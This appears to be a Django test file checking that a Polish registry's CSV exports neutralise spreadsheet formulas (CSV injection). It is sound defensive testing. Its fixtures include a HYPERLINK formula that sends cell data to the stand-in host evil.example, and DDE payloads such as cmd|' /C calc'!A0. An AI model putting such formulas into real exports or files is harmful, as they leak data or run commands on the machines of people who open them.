"""No CSV the registry writes can run as a formula in a spreadsheet (CSV injection)."""

import ast
import csv
import io
import json
from pathlib import Path

from django.conf import settings
from django.test import SimpleTestCase, TestCase

from core.spreadsheet import neutralised
from tests import builders

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Kliknij")'


class NeutralisedTests(SimpleTestCase):
    def test_a_cell_a_spreadsheet_would_run_gets_a_leading_apostrophe(self):
        for text in (HYPERLINK, "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1"):
            with self.subTest(text):
                self.assertEqual(neutralised(text), "'" + text)

    def test_plain_text_numbers_and_telephone_numbers_stay_as_they_are(self):
        for value in ("Ośrodek Pomocy Społecznej", "+48 22 123 45 67", "-5", "-1.5", "2014-10-28", "a=b", "", 12):
            with self.subTest(value):
                self.assertEqual(neutralised(value), str(value))
        self.assertEqual(neutralised(None), "")


class PublicExportTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        builders.load_territory()
        member = builders.institution("@SUM(1+1)*cmd|' /C calc'!A0")
        cls.partnership = builders.partnership(HYPERLINK, counties=["1465"], members=[member])

    def test_the_public_csv_neutralises_formulas_and_the_json_keeps_the_value(self):
        response = self.client.get("/partnerstwa/?format=csv")
        rows = list(
            csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")), delimiter=";")
        )
        self.assertEqual(rows[0]["name"], "'" + HYPERLINK)
        self.assertEqual(rows[0]["members"], "'@SUM(1+1)*cmd|' /C calc'!A0")
        response = self.client.get("/partnerstwa/?format=json")
        data = json.loads(b"".join(response.streaming_content))
        self.assertEqual(data["partnerships"][0]["name"], HYPERLINK)
        self.assertEqual(data["partnerships"][0]["members"][0]["name"], "@SUM(1+1)*cmd|' /C calc'!A0")


class OneWriterTests(SimpleTestCase):
    def test_no_module_writes_csv_but_through_the_one_safe_writer(self):
        """Every ``csv.writer`` of the registry's own code is in core.spreadsheet."""
        writers = []
        for path in Path(settings.BASE_DIR).rglob("*.py"):
            relative = path.relative_to(settings.BASE_DIR)
            if relative.parts[0] in {".venv", ".venv-audit", "tests", "bench", "var"} or "migrations" in relative.parts:
                continue
            for node in ast.walk(ast.parse(path.read_text(), str(relative))):
                if (
                    isinstance(node, ast.Attribute)
                    and node.attr in {"writer", "DictWriter"}
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                ):
                    writers.append(str(relative))
        self.assertEqual(writers, ["core/spreadsheet.py"])
